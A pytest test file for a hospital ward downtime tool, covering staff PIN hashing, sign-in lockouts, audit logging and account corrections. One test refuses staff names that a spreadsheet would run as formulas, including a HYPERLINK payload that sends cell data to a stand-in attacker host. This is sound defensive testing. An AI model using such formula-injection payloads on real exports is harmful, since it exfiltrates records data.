import json

import pytest

from downtime.domain.staff import Role
from downtime.services import setup, staff
from downtime.services.errors import PermissionDenied, ServiceError, SetupError, SignInError
from downtime.storage import audit, keyslots
from tests.conftest import STAFF


def test_pins_are_stored_only_as_slow_hashes(ward_db):
    for row in ward_db.query("SELECT staff_id, pin_hash FROM staff"):
        assert row["pin_hash"].startswith("scrypt$16:8:1$")
        assert "1111" not in row["pin_hash"] and "0000" not in row["pin_hash"]


def test_the_product_stretches_pins_at_full_cost_and_each_hash_keeps_its_own(tmp_path, monkeypatch, full_pin_cost):
    """The suite stretches PINs at a token cost (conftest); the product's, checked here, is what
    slows a guesser: scrypt N=2**14 for the staff list, 2**15 for the database's key slots."""
    stored = staff.hash_pin("1111")
    assert stored.startswith("scrypt$16384:8:1$")
    database, key = tmp_path / "ward.sqlite", keyslots.new_key()
    keyslots.add_slot(database, key, "nurse", "1111")
    assert json.loads(keyslots.keys_path(database).read_text())["slots"]["nurse"]["params"] == {"n": 2**15, "r": 8, "p": 1}
    monkeypatch.setattr(staff, "_SCRYPT", full_pin_cost)
    monkeypatch.setattr(keyslots, "SCRYPT", full_pin_cost)
    cheap = staff.hash_pin("1111")
    assert cheap.startswith("scrypt$16:8:1$")
    assert staff.check_pin("1111", stored) and not staff.check_pin("1112", stored)
    assert staff.check_pin("1111", cheap) and not staff.check_pin("1112", cheap)
    assert keyslots.unwrap(database, "nurse", "1111") == key
    assert keyslots.unwrap(database, "nurse", "1112") is None


def test_sign_in_accepts_the_right_pin_only(ward_db, clock):
    assert staff.sign_in(ward_db, "nurse", "1111", clock).role is Role.WARD_NURSE
    with pytest.raises(SignInError, match="Unknown staff ID or wrong PIN"):
        staff.sign_in(ward_db, "nurse", "1112", clock)
    with pytest.raises(SignInError, match="Unknown staff ID or wrong PIN"):
        staff.sign_in(ward_db, "ghost", "1111", clock)
    failed = ward_db.execute("SELECT COUNT(*) FROM audit WHERE action = 'sign_in.failed'").fetchone()[0]
    assert failed == 2


def test_an_unknown_staff_id_is_audited_by_its_length_not_its_text(ward_db, clock):
    """The PIN typed in the Staff ID box (the two boxes swapped) was written in the audit log as
    the actor of the failed sign-in, for every reader of the log to see."""
    with pytest.raises(SignInError, match="Unknown staff ID or wrong PIN"):
        staff.sign_in(ward_db, "482913", "nurse", clock)
    failed = ward_db.execute("SELECT actor FROM audit WHERE action = 'sign_in.failed'").fetchall()
    assert failed == [("unknown staff ID (6 characters)",)]


def test_only_an_administrator_adds_staff(session_for):
    with pytest.raises(PermissionDenied):
        staff.add_staff(session_for("nurse"), "new", "New Nurse", Role.WARD_NURSE, "5555")
    admin = session_for("admin")
    staff.add_staff(admin, "new", "New Nurse", Role.WARD_NURSE, "5555")
    with pytest.raises(ServiceError, match="already exists"):
        staff.add_staff(admin, "new", "Other", Role.DOCTOR, "5555")
    with pytest.raises(ServiceError, match="PIN"):
        staff.add_staff(admin, "new2", "Other", Role.DOCTOR, "12")


def test_adding_back_a_deactivated_account_says_to_give_it_a_new_pin(session_for):
    """The agency nurse of Monday night is back on Thursday: "already exists" alone sent the
    administrator to make her a second staff ID, her care then split under two identities."""
    admin = session_for("admin")
    staff.add_staff(admin, "agency1", "Inès Ayadi", Role.WARD_NURSE, "482913")
    staff.deactivate_staff(admin, "agency1")
    with pytest.raises(ServiceError) as refused:
        staff.add_staff(admin, "agency1", "Inès Ayadi", Role.WARD_NURSE, "482914")
    assert str(refused.value) == (
        "Staff ID 'agency1' already exists for Inès Ayadi (ward nurse), deactivated. If Inès Ayadi is back, give it a "
        "new PIN to reactivate it, so that their care stays under one staff ID; anyone else needs a staff ID of their "
        "own: what they record under this one is named Inès Ayadi's.")


def test_a_deactivated_staff_id_typed_for_someone_else_says_whose_it_is(session_for, clock):
    """Noémie Faure's `night`, deactivated, typed again for another agency nurse, Paul Girard: the
    refusal said only to give `night` a new PIN, and following it Paul's care was charted, printed
    and exported under her name. It names her, in the reader's language, and says to give anyone
    else an ID of their own; an active account's holder is named too."""
    admin = session_for("admin")
    staff.add_staff(admin, "night", "Noémie Faure", Role.WARD_NURSE, "5555")
    staff.deactivate_staff(admin, "night")
    with pytest.raises(ServiceError) as refused:
        staff.add_staff(admin, "Night", "Paul Girard", Role.WARD_NURSE, "8888")
    said = refused.value.text("en")
    assert said.startswith("Staff ID 'night' already exists for Noémie Faure (ward nurse), deactivated.")
    assert "anyone else needs a staff ID of their own" in said
    assert "Noémie Faure (infirmier(ère) du service)" in refused.value.text("fr")
    assert not staff.member_named(admin.db, "night").active
    with pytest.raises(ServiceError) as refused:
        staff.add_staff(admin, "nurse", "Paul Girard", Role.WARD_NURSE, "8888")
    assert str(refused.value) == "Staff ID 'nurse' already exists for Hélène Lefèvre (ward nurse)."


@pytest.mark.parametrize("typed", ["Noémie Faure", "Noemie FAURE", "FAURE  Noémie", " noémie-faure "])
def test_the_same_person_added_under_a_second_staff_id_is_refused_unless_said_to_be_someone_else(session_for, typed):
    """Noémie Faure (`night`, deactivated after Monday night) added on Thursday as `nfaure`: taken
    in silence, her care was split over two staff IDs, two Practitioners in the export. The name
    matches whatever its capitals, accents, spaces or word order; the refusal names the account
    and whether it signs in. Someone else of the same name is added once the administrator says so."""
    admin = session_for("admin")
    staff.add_staff(admin, "night", "Noémie Faure", Role.WARD_NURSE, "5555")
    staff.deactivate_staff(admin, "night")
    with pytest.raises(staff.SameNameFound) as refused:
        staff.add_staff(admin, "nfaure", typed, Role.WARD_NURSE, "9999")
    assert str(refused.value) == (
        "An account of that name exists already: night (Noémie Faure, ward nurse, deactivated). If it is the same "
        "person, give that account a new PIN instead (it reactivates a deactivated one), so that their care stays "
        "under one staff ID; add nfaure only for someone else of the same name.")
    assert "night (Noémie Faure, infirmier(ère) du service, désactivé)" in refused.value.text("fr")
    assert staff.member_named(admin.db, "nfaure") is None
    assert staff.add_staff(admin, "nfaure", typed, Role.WARD_NURSE, "9999", same_name=True).active
    entry = admin.db.execute("SELECT detail FROM audit WHERE action = 'staff.add' AND entity_id = 'nfaure'").fetchone()
    assert json.loads(entry[0])["same_name_as"] == ["night"]


def test_an_administrator_corrects_a_name_and_role_typed_wrong_and_the_records_name_the_corrected(
        session_for, medication_ward, clock):
    """At 03:00 the agency nurse was added as "Noemie Faur", role doctor (the list's second line):
    she could write orders, and every record, print and export said "Noemie Faur", until the
    account was deactivated and a second staff ID split her care. The correction is audited with
    its reason, old and new; what she wrote keeps her staff ID and reads the corrected name."""
    from downtime.services import laptops, records
    from downtime.services.context import Session
    from downtime.services.errors import PermissionDenied
    from downtime.storage.audit import verify_chain

    patient = medication_ward[0]
    admin = session_for("admin")
    staff.add_staff(admin, "agency1", "Noemie Faur", Role.DOCTOR, "482913")

    def signed_in() -> Session:
        return Session(admin.db, admin.device, staff.sign_in(admin.db, "agency1", "482913", clock), admin.forms, clock)

    order = records.save_new(signed_in(), "medication_order", {
        "drug": "Paracetamol", "dose": 1.0, "dose_unit": "g", "route": "PO", "frequency": "scheduled",
        "times": "18:00", "start_at": "2026-11-28T14:00+01:00", "controlled": False, "high_alert": False},
        patient_id=patient)
    assert laptops.author_of(admin, order) == "Noemie Faur (agency1)"
    corrected = staff.correct_staff(admin, "AGENCY1", "Typed wrong at 03:00: she is an agency nurse",
                                    name="Noémie Faure", role=Role.WARD_NURSE)
    assert (corrected.staff_id, corrected.name, corrected.role) == ("agency1", "Noémie Faure", Role.WARD_NURSE)
    assert laptops.author_of(admin, order) == "Noémie Faure (agency1)"
    assert {"staff_id": "agency1", "name": "Noémie Faure", "role": "ward_nurse"} in staff.staff_directory(admin.db)
    with pytest.raises(PermissionDenied):
        records.save_new(signed_in(), "medication_order", {
            "drug": "Paracetamol", "dose": 1.0, "dose_unit": "g", "route": "PO", "frequency": "scheduled",
            "times": "20:00", "start_at": "2026-11-28T14:00+01:00", "controlled": False, "high_alert": False},
            patient_id=patient)
    entry = admin.db.execute("SELECT actor, detail FROM audit WHERE action = 'staff.correct'").fetchone()
    assert entry[0] == "admin"
    assert {key: value for key, value in json.loads(entry[1]).items() if key != "row_hash"} == {
        "name": ["Noemie Faur", "Noémie Faure"], "role": ["doctor", "ward_nurse"],
        "reason": "Typed wrong at 03:00: she is an agency nurse"}
    assert verify_chain(admin.db) is None
    renamed = staff.correct_staff(admin, "agency1", "Surname misspelt", name="Noémie Fauré")
    assert (renamed.name, renamed.role) == ("Noémie Fauré", Role.WARD_NURSE)


@pytest.mark.parametrize(("who", "values", "said"), [
    ("nurse", {"name": "Hélène Lefebvre", "reason": "Misspelt"}, "Hélène Lefèvre (ward nurse) may not manage staff"),
    ("admin", {"name": "Hélène Lefebvre", "reason": "  "}, "Reason: required (what was typed wrong)."),
    ("admin", {"name": " ", "reason": "Misspelt"}, "Name: required."),
    ("admin", {"name": "=HYPERLINK(1)", "reason": "Misspelt"}, "Name: it cannot start with"),
    ("admin", {"name": "Hélène Lefèvre", "role": Role.WARD_NURSE, "reason": "Misspelt"},
     "Nothing to correct: nurse is already Hélène Lefèvre (ward nurse)."),
    ("admin", {"name": "X", "reason": "Misspelt", "staff_id": "ghost"}, "No staff account 'ghost'."),
])
def test_a_correction_refused_changes_nothing(session_for, ward_db, who, values, said):
    values = dict(values)
    with pytest.raises(ServiceError) as refused:
        staff.correct_staff(session_for(who), values.pop("staff_id", "nurse"), values.pop("reason"), **values)
    assert str(refused.value).startswith(said)
    assert staff.member_named(ward_db, "nurse") == staff.StaffMember(staff_id="nurse", name="Hélène Lefèvre",
                                                                     role=Role.WARD_NURSE)
    assert not ward_db.execute("SELECT 1 FROM audit WHERE action = 'staff.correct'").fetchone()


def test_the_last_administrators_role_cannot_be_corrected_away(session_for, ward_db):
    admin = session_for("admin")
    with pytest.raises(ServiceError, match="This is the last active administrator; add another one first."):
        staff.correct_staff(admin, "admin", "Wrong role", role=Role.WARD_NURSE)
    assert staff.member_named(ward_db, "admin").role is Role.ADMINISTRATOR
    staff.correct_staff(admin, "admin", "Full name", name="Alice Martin")  # her name may be
    staff.correct_staff(admin, "records", "The second administrator, the nurse in charge", role=Role.ADMINISTRATOR)
    assert staff.correct_staff(admin, "admin", "IT keeps no ward role", role=Role.RECORDS_STAFF).role is Role.RECORDS_STAFF


def test_setup_runs_once_and_checks_the_device_number(fresh_db_path):
    from downtime.storage import open_database

    db = open_database(fresh_db_path)
    assert setup.needs_setup(db)
    with pytest.raises(SetupError, match="Device number"):
        setup.initialise(db, device_number=0, device_name="x", admin_id="admin",
                         admin_name="A", admin_pin="0000")
    setup.initialise(db, device_number=5, device_name="Ward 5", admin_id="admin",
                     admin_name="A", admin_pin="0000")
    assert not setup.needs_setup(db)
    with pytest.raises(SetupError, match="already set up"):
        setup.initialise(db, device_number=6, device_name="x", admin_id="admin",
                         admin_name="A", admin_pin="0000")


@pytest.fixture
def fresh_db_path(tmp_path):
    return tmp_path / "fresh.sqlite"


def test_a_staff_id_differing_only_by_case_is_refused(session_for, clock):
    """"Agency1" beside "agency1" would be two accounts that read the same in every list."""
    admin = session_for("admin")
    staff.add_staff(admin, "agency1", "Inès Ayadi", Role.WARD_NURSE, "482913")
    with pytest.raises(ServiceError):
        staff.add_staff(admin, "Agency1", "Paul Roux", Role.WARD_NURSE, "111111")


def test_a_staff_id_signs_in_whatever_its_case(session_for, clock):
    """With Caps Lock on, "AGENCY1" was "Unknown staff ID or wrong PIN" for agency1."""
    admin = session_for("admin")
    staff.add_staff(admin, "Agency1", "Inès Ayadi", Role.WARD_NURSE, "482913")
    for typed in ("AGENCY1", " agency1 ", "Agency1"):
        assert staff.sign_in(admin.db, typed, "482913", clock).staff_id == "Agency1"


def test_wrong_pins_under_every_capitalisation_count_towards_one_lockout(ward_db, clock):
    """Each capitalisation of a staff ID had five guesses of its own: "NURSE", "Nurse",
    "nUrse"... and the lockout of "nurse" never came."""
    for typed in ("NURSE", "Nurse", "nUrse", " nurse", "nursE"):
        with pytest.raises(SignInError, match="wrong PIN"):
            staff.sign_in(ward_db, typed, "0000", clock)
    with pytest.raises(SignInError, match="locked until"):
        staff.sign_in(ward_db, "nurse", "1111", clock)
    for typed in ("GHOST", "Ghost", "ghost", "gHost", "ghosT"):
        with pytest.raises(SignInError, match="wrong PIN"):
            staff.sign_in(ward_db, typed, "0000", clock)
    with pytest.raises(SignInError, match="locked until"):
        staff.sign_in(ward_db, "GHOST", "0000", clock)
    actors = {row[0] for row in ward_db.execute("SELECT actor FROM audit WHERE action LIKE 'sign_in.%'")}
    assert actors == {"nurse", "unknown staff ID (5 characters)"}


def test_the_command_line_names_an_account_whatever_its_case(session_for, db_path, capsys, clock):
    from downtime.cli import main

    session_for("admin")
    assert main(["staff", "set-pin", "NURSE", "--new-pin", "246810", "--db", str(db_path), "--user", "ADMIN",
                 "--pin", "0000"]) == 0
    assert "nurse signs in with the new PIN" in capsys.readouterr().out
    assert main(["staff", "deactivate", "Nurse", "--db", str(db_path), "--user", "Admin", "--pin", "0000"]) == 0
    assert not next(m for m in staff.list_staff(session_for("admin").db) if m.staff_id == "nurse").active


def test_a_pin_of_non_ascii_digits_is_refused(session_for, clock):
    """`\\d` accepts any Unicode digit: a PIN typed in full-width or Arabic-Indic digits is
    accepted, and the same PIN typed on the number keys never signs in."""
    admin = session_for("admin")
    try:
        staff.add_staff(admin, "agency2", "Paul Roux", Role.WARD_NURSE, "٤٨٢٩١٣")
    except ServiceError:
        return  # refused: as it should be
    assert staff.sign_in(admin.db, "agency2", "482913", clock).staff_id == "agency2"


def test_a_staff_id_or_pin_ending_in_a_newline_is_refused(session_for, clock):
    """`$` also matches before a final newline: "agency3\n" became an account nobody can sign in
    to (the sign-in strips what is typed), listed like "agency3", and "482913\n" a PIN nobody can
    type."""
    admin = session_for("admin")
    for staff_id, pin in (("agency3\n", "482913"), ("agency3", "482913\n")):
        with pytest.raises(ServiceError):
            staff.add_staff(admin, staff_id, "Paul Roux", Role.WARD_NURSE, pin)
    with pytest.raises(ServiceError):
        staff.set_pin(admin, "nurse", "246810\n")


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?"&A2,"Dupont")', "+33 6 12 34 56 78", "-Roux",
                                  "@SUM(A1)", "\t=1+1"])
def test_a_name_a_spreadsheet_would_take_for_a_formula_is_refused(session_for, ward_db, name):
    """A name goes on every version its owner writes, into the CSVs the records office opens in a
    spreadsheet, which ran =HYPERLINK(…) as a formula."""
    with pytest.raises(ServiceError) as refused:
        staff.add_staff(session_for("admin"), "agency4", name, Role.WARD_NURSE, "482913")
    assert str(refused.value) == "Name: it cannot start with =, +, - or @ (a spreadsheet would take it for a formula)."
    assert staff.member_named(ward_db, "agency4") is None


def test_an_account_named_so_before_names_were_checked_still_gets_a_new_pin(session_for, ward_db, clock):
    ward_db["staff"].update("nurse", {"name": "-Hélène Lefèvre"})
    staff.set_pin(session_for("admin"), "nurse", "246810")
    assert staff.sign_in(ward_db, "nurse", "246810", clock).name == "-Hélène Lefèvre"


def test_the_command_line_gives_an_account_a_new_pin(session_for, db_path, capsys, clock):
    from downtime.cli import main

    admin = session_for("admin")
    staff.deactivate_staff(admin, "nurse")
    assert main(["staff", "set-pin", "nurse", "--new-pin", "246810", "--db", str(db_path), "--user", "admin",
                 "--pin", "0000"]) == 0
    assert "nurse signs in with the new PIN" in capsys.readouterr().out
    assert staff.sign_in(admin.db, "nurse", "246810", clock).active


def test_two_accounts_made_before_capitals_were_refused_are_each_reached_typed_exactly():
    from downtime.domain.staff import typed_staff_id

    for stored in (["nurse", "Nurse"], ["Nurse", "nurse"]):
        assert [typed_staff_id(typed, stored) for typed in ("nurse", "Nurse", "NURSE", " nUrse ")] == [
            "nurse", "Nurse", "Nurse", "Nurse"]
    assert typed_staff_id(" GHOST ", ["nurse"]) == "ghost"


def test_deactivating_an_account_twice_says_it_already_is(session_for, ward_db):
    """`downtime staff deactivate` said "can no longer sign in" again, and audited a second
    deactivation of an account that was not active."""
    admin = session_for("admin")
    staff.deactivate_staff(admin, "nurse")
    before = ward_db.execute("SELECT COUNT(*) FROM audit").fetchone()[0]
    with pytest.raises(ServiceError, match="^Account nurse is already deactivated.$"):
        staff.deactivate_staff(admin, "NURSE")
    assert ward_db.execute("SELECT COUNT(*) FROM audit").fetchone()[0] == before


def test_anyone_signed_in_changes_their_own_pin_after_typing_the_current_one(session_for, ward_db, clock):
    """`staff set-pin` was the administrator's alone: every PIN, a controlled drug witness's
    included, was one the administrator knew."""
    from downtime.services.own_pin import change_own_pin

    nurse = session_for("nurse")
    assert change_own_pin(nurse, "1111", "482913").staff_id == "nurse"
    assert staff.sign_in(ward_db, "nurse", "482913", clock).staff_id == "nurse"
    with pytest.raises(SignInError):
        staff.sign_in(ward_db, "nurse", "1111", clock)
    (row,) = ward_db.query("SELECT actor, entity_id FROM audit WHERE action = 'staff.change_pin'")
    assert row == {"actor": "nurse", "entity_id": "nurse"}


@pytest.mark.parametrize(("current", "new", "said"), [
    ("1112", "482913", "^Current PIN: wrong PIN; nothing was changed."),
    ("1111", "48", "^PIN: 4 to 12 digits.$"),
    ("1111", "1111", "^New PIN: the same as the current one; choose another.$"),
])
def test_a_pin_change_refused_changes_nothing(session_for, ward_db, clock, current, new, said):
    from downtime.services.own_pin import change_own_pin

    nurse = session_for("nurse")
    with pytest.raises(ServiceError, match=said):
        change_own_pin(nurse, current, new)
    assert staff.sign_in(ward_db, "nurse", "1111", clock).staff_id == "nurse"
    assert not list(ward_db.query("SELECT 1 FROM audit WHERE action LIKE 'staff.change_pin%'"))


def test_wrong_current_pins_count_towards_the_sign_in_lockout(session_for, ward_db, clock):
    """Five guesses at a colleague's PIN on a laptop they left signed in lock their staff ID,
    as five at the sign-in window do."""
    from downtime.services.errors import LockedOut
    from downtime.services.own_pin import change_own_pin

    nurse = session_for("nurse")
    for guess in ("1234", "4321", "0000", "9999", "1212"):
        with pytest.raises(ServiceError, match="wrong PIN"):
            change_own_pin(nurse, guess, "482913")
    assert ward_db.execute("SELECT COUNT(*) FROM audit WHERE action = 'current_pin.failed' AND actor = 'nurse'"
                           ).fetchone()[0] == 5  # no sign-in of theirs, failed or not
    with pytest.raises(LockedOut):
        change_own_pin(nurse, "1111", "482913")
    with pytest.raises(LockedOut):
        staff.sign_in(ward_db, "nurse", "1111", clock)


def test_the_command_line_changes_the_own_pin_of_the_person_signed_in(session_for, db_path, capsys, clock):
    from downtime.cli import main

    nurse = session_for("nurse")
    assert main(["staff", "change-pin", "--new-pin", "482913", "--db", str(db_path), "--user", "nurse",
                 "--pin", "1111"]) == 0
    assert "nurse: your new PIN is set; sign in with it from now on" in capsys.readouterr().out
    assert staff.sign_in(nurse.db, "nurse", "482913", clock).staff_id == "nurse"
    assert main(["staff", "change-pin", "--new-pin", "135790", "--db", str(db_path), "--user", "nurse",
                 "--pin", "1111"]) == 1
    assert "Unknown staff ID or wrong PIN" in capsys.readouterr().err


def test_the_command_line_names_the_unsaved_forms_an_account_deactivated_leaves(session_for, db_path, capsys,
                                                                               admission_values):
    """Deactivated in silence, the night nurse's unsaved admission was left for no one to see."""
    from downtime.cli import main
    from downtime.services import drafts

    drafts.save_draft(session_for("nurse"), "draft-1", "admission", admission_values)
    assert main(["staff", "deactivate", "nurse", "--db", str(db_path), "--user", "admin", "--pin", "0000"]) == 0
    assert capsys.readouterr().out.splitlines()[-1] == (
        "1 unsaved form(s) of theirs: Downtime admission record, bed 12. Only they can open them, given a new PIN: "
        "ask them.")


def test_the_command_line_corrects_a_name_and_role_and_adds_a_namesake_only_when_told(session_for, db_path, capsys):
    from downtime.cli import main

    session_for("admin")
    signed = ["--db", str(db_path), "--user", "admin", "--pin", "0000"]
    assert main(["staff", "correct", "doctor", "--role", "ward_nurse", "--name", "Karim Benali",
                 "--reason", "Added as a doctor by mistake", *signed]) == 0
    assert capsys.readouterr().out.strip() == (
        "doctor is now Karim Benali (ward nurse). What they recorded keeps their staff ID, so every screen and print "
        "names them so from now on (pages printed before keep the old name).")
    assert main(["staff", "correct", "doctor", "--reason", "nothing", *signed]) == 1
    assert "Nothing to correct: doctor is already Karim Benali (ward nurse)." in capsys.readouterr().err
    assert main(["staff", "add", "kbenali", "--name", "BENALI Karim", "--role", "doctor", "--new-pin", "777777",
                 *signed]) == 1
    err = capsys.readouterr().err
    assert "An account of that name exists already: doctor (Karim Benali, ward nurse, active)." in err
    assert "Give --same-name to add kbenali all the same." in err
    assert staff.member_named(session_for("admin").db, "kbenali") is None
    assert main(["staff", "add", "kbenali", "--name", "BENALI Karim", "--role", "doctor", "--new-pin", "777777",
                 "--same-name", *signed]) == 0
    assert staff.member_named(session_for("admin").db, "kbenali").name == "BENALI Karim"
def test_a_role_corrected_applies_to_a_session_signed_in_before(session_for, medication_ward):
    """Corrected while she was signed in, the nurse added as a doctor went on writing orders
    until she signed out: the session reads the role as it stands at each action."""
    from downtime.services import records
    from downtime.services.errors import PermissionDenied

    doctor = session_for("doctor")
    staff.correct_staff(session_for("admin"), "doctor", "Added as a doctor by mistake", role=Role.WARD_NURSE)
    with pytest.raises(PermissionDenied):
        records.save_new(doctor, "medication_order", {
            "drug": "Paracetamol", "dose": 1.0, "dose_unit": "g", "route": "PO", "frequency": "scheduled",
            "times": "20:00", "start_at": "2026-11-28T14:00+01:00", "controlled": False, "high_alert": False},
            patient_id=medication_ward[0])
    assert doctor.user.role is Role.WARD_NURSE  # the banner's and the screens' role too


def test_the_lockout_count_reads_a_staff_ids_last_pins_from_an_index_in_order(ward_db, clock):
    """At every sign-in, unlock and witness's PIN: the count read every PIN entry of every staff
    ID by its action and sorted them (16-64 ms on a ward laptop's month). The index holds the PIN
    entries alone (`audit.PIN_ACTIONS`, each a PIN typed: right, wrong or changed); the reset
    an administrator gives is read by its entity."""
    assert set(audit.PIN_ACTIONS) == set(staff._RIGHT + staff._WRONG)
    typed, reset = staff.LAST_PINS
    plans = [" ".join(row[3] for row in ward_db.execute(f"EXPLAIN QUERY PLAN {query}", values))
             for query, values in ((typed, ["nurse", 5]), (reset, ["nurse", staff._RESET, 5]))]
    assert "USING INDEX audit_pins" in plans[0] and "USING INDEX audit_entity" in plans[1]
    assert not [plan for plan in plans if "TEMP B-TREE" in plan], plans
    for _ in range(4):
        with pytest.raises(SignInError):
            staff.sign_in(ward_db, "nurse", "0001", clock)
    staff.sign_in(ward_db, "doctor", STAFF["doctor"][2], clock)  # another's PIN between: not nurse's
    with pytest.raises(SignInError):
        staff.sign_in(ward_db, "nurse", "0001", clock)
    with pytest.raises(SignInError, match="locked"):
        staff.sign_in(ward_db, "nurse", STAFF["nurse"][2], clock)
